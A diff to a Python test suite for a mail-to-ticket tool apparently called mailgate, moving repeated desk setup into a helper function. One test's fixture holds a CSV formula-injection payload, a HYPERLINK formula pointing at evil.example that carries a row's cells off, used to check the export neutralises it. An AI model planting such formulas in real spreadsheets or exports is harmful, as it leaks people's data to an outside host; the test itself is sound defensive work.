@@ -125,7 +125,8 @@ def test_report_opt_out_and_in(config: Path) -> None:
     assert "again" in mailgate(config, "report", "--opt-in", "lead@example.com").stdout
 
 
-def test_on_a_desk_init_just_made(tmp_path: Path) -> None:
+def _init_desk(tmp_path: Path) -> Path:
+    """A desk as `mailgate init` makes it (SUP, support@localhost); its config.toml."""
     assert MAILGATE
     subprocess.run(
         [MAILGATE, "init", "desk", "--desk-address", "support@localhost", "--key", "SUP"],
@@ -135,7 +136,11 @@ def test_on_a_desk_init_just_made(tmp_path: Path) -> None:
         capture_output=True,
         timeout=120,
     )
-    config = tmp_path / "desk" / "config.toml"
+    return tmp_path / "desk" / "config.toml"
+
+
+def test_on_a_desk_init_just_made(tmp_path: Path) -> None:
+    config = _init_desk(tmp_path)
     # Nothing received yet: both say so, as every reading command does, instead of empty figures.
     for args in (("report",), ("tickets", "export")):
         empty = mailgate(config, *args, ok=os.EX_NOINPUT)
@@ -162,16 +167,7 @@ def test_attack_a_formula_in_what_a_stranger_wrote_is_text_in_the_csv_export(tmp
     starting with "=", "+", "-" or "@" is a formula (CWE-1236): HYPERLINK would carry the row's
     other cells off with one click. The CSV cell starts with a quote; JSON keeps it as written.
     Control: an ordinary subject is exported unchanged."""
-    assert MAILGATE
-    subprocess.run(
-        [MAILGATE, "init", "desk", "--desk-address", "support@localhost", "--key", "SUP"],
-        cwd=tmp_path,
-        env=ENV,
-        check=True,
-        capture_output=True,
-        timeout=120,
-    )
-    config = tmp_path / "desk" / "config.toml"
+    config = _init_desk(tmp_path)
     formula = '=HYPERLINK("https://evil.example/?"&D2,"Open invoice")'
     mails = [
         make_mail(
